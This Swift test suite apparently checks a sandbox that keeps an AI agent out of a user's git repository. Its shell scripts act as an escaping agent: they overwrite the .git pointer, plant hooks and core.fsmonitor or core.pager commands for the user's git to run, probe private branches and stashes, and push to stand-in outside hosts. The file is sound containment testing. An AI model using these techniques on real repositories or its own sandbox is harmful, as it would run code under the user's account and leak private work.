import Fixtures
import Linux
import Sandbox
import SandboxScene
import Testing

@Suite("An agent that attacks the user's repository", bwrapIsHere)
struct GitAttackTests {
    @Test(
        "works in its own git directory: commit, log, stash, rebase", arguments: SandboxScene.Mode.available)
    func allowedWork(mode: SandboxScene.Mode) async throws {
        let split = try await SplitGitScene(mode)
        let seen = try await split.shell(
            """
            set -e
            git status --porcelain --branch
            echo two >> src/a.txt; git commit --quiet --all --message second
            echo three >> src/a.txt; git stash push --quiet; git status --porcelain; git stash pop --quiet
            git commit --quiet --all --message third
            git switch --quiet --create side HEAD~1; echo side > side.txt; git add side.txt; \
            git commit --quiet --message side
            git rebase --quiet task; git log --format=%s; git diff --stat HEAD~1 | tail -1; \
            git fsck --no-dangling && git gc --quiet
            """)
        #expect(seen == "## task\nside\nthird\nsecond\nbegin\n 1 file changed, 1 insertion(+)")
        // The user's side of the same worktree has not moved, and sees the files.
        #expect(try await split.repository.revParse("task") == split.base)
        #expect(try split.scene.folder.read("worktree/side.txt") == "side\n")
    }

    @Test("sees no branch, stash, hook or remote of the user", arguments: SandboxScene.Mode.available)
    func privateThings(mode: SandboxScene.Mode) async throws {
        let split = try await SplitGitScene(mode)
        let hidden = try await split.repository.revParse("private-branch")
        let stash = try await split.repository.revParse("stash")
        let seen = try await split.shell(
            """
            git branch --all --format='%(refname:short)'; git stash list; git remote; \
            git log --all --format=%s
            git cat-file -e \(hidden) 2>/dev/null && echo "found the private branch"
            git cat-file -e \(stash) 2>/dev/null && echo "found the stash"
            ls -A \(split.repository.path) 2>/dev/null
            cat \(split.repository.path)/.git/config \(split.repository.path)/.git/hooks/pre-commit \
            2>/dev/null
            git --git-dir=\(split.repository.path)/.git log --format=%s 2>/dev/null
            git cat-file -t \(split.base)
            """)
        #expect(seen == "task\nbegin\ncommit")
    }

    @Test(
        "cannot replace, remove or move the pointer to its git directory",
        arguments: SandboxScene.Mode.available)
    func pointer(mode: SandboxScene.Mode) async throws {
        let split = try await SplitGitScene(mode)
        let before = try split.scene.folder.read("worktree/.git")
        let seen = try await split.shell(
            """
            (echo "gitdir: /tmp/evil" > .git) 2>/dev/null && echo wrote
            rm -f .git 2>/dev/null && echo removed; mv .git other 2>/dev/null && echo moved
            echo x > evil; mv -f evil .git 2>/dev/null && echo replaced; \
            ln -f evil .git 2>/dev/null && echo linked
            umount .git 2>/dev/null && echo unmounted
            mv \(split.scene.worktree) \(split.scene.folder.path)/elsewhere 2>/dev/null && echo moved
            chmod 777 .git 2>/dev/null && echo changed
            git rev-parse --git-dir
            """)
        #expect(seen == split.privateGitDirectory)
        #expect(try split.scene.folder.read("worktree/.git") == before)
        #expect(try split.scene.folder.read("pointer") == "gitdir: \(split.privateGitDirectory)\n")
    }

    @Test(
        "cannot plant a hook, a filter or a configuration that the user's git reads",
        arguments: SandboxScene.Mode.available)
    func planting(mode: SandboxScene.Mode) async throws {
        let split = try await SplitGitScene(mode)
        let marker = split.scene.folder.path("ran")
        _ = try await split.shell(
            """
            git config core.fsmonitor 'touch \(marker)'; git config core.hooksPath "$PWD/hooks"; \
            git config core.pager 'touch \(marker)'
            mkdir hooks; printf '#!/bin/sh\\ntouch \(marker)\\n' > hooks/post-checkout; \
            chmod +x hooks/post-checkout
            cp hooks/post-checkout $(git rev-parse --git-dir)/hooks/pre-commit 2>/dev/null || true
            echo changed > README
            """)
        // What the user, or the server on his behalf, would do next.
        let status = try await split.repository.git("-C", split.scene.worktree, "status", "--porcelain")
        #expect(status == " M README\n?? hooks/")
        #expect(!Files.exists(marker))
        #expect(try Files.list(split.repository.path + "/.git/hooks").contains("pre-commit"))
    }

    @Test(
        "cannot push: no route, no remote, no repository to be seen", arguments: SandboxScene.Mode.available)
    func push(mode: SandboxScene.Mode) async throws {
        let split = try await SplitGitScene(mode)
        let seen = try await split.shell(
            """
            git push --quiet origin task 2>/dev/null && echo pushed
            git push --quiet https://example.invalid/r.git task 2>/dev/null && echo pushed
            git push --quiet git://192.0.2.1/r.git task 2>/dev/null && echo pushed
            git push --quiet \(split.repository.path) task:main 2>/dev/null && echo pushed
            git init --quiet --bare /tmp/own.git && git push --quiet /tmp/own.git task && \
            git -C /tmp/own.git log --format=%s task
            """)
        #expect(seen == "begin")
        #expect(try await split.repository.revParse("main") == split.base)
    }

    @Test(
        "does not see the host's pointer when it has no git directory", arguments: SandboxScene.Mode.available
    )
    func hiddenPointer(mode: SandboxScene.Mode) async throws {
        let split = try await SplitGitScene(mode)
        let seen = try await split.scene.shell(
            """
            cat .git 2>/dev/null; (echo x > .git) 2>/dev/null; rm -rf .git 2>/dev/null && echo removed
            git status 2>&1 | grep -o 'not a git repository'; cat README
            """)
        #expect(seen == "not a git repository\nhello")
        #expect(try split.scene.folder.read("worktree/.git").hasPrefix("gitdir: \(split.repository.path)"))
    }
}
